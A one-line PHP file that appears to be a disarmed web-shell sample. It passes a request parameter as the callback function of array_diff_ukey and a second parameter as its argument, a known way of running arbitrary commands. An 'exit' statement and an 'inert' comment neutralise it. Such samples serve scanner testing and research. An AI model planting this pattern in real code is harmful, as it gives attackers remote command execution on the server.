<?php exit; /* inert */ array_diff_ukey(array($_GET["a"]=>1),array("b"=>1),$_GET["f"]);
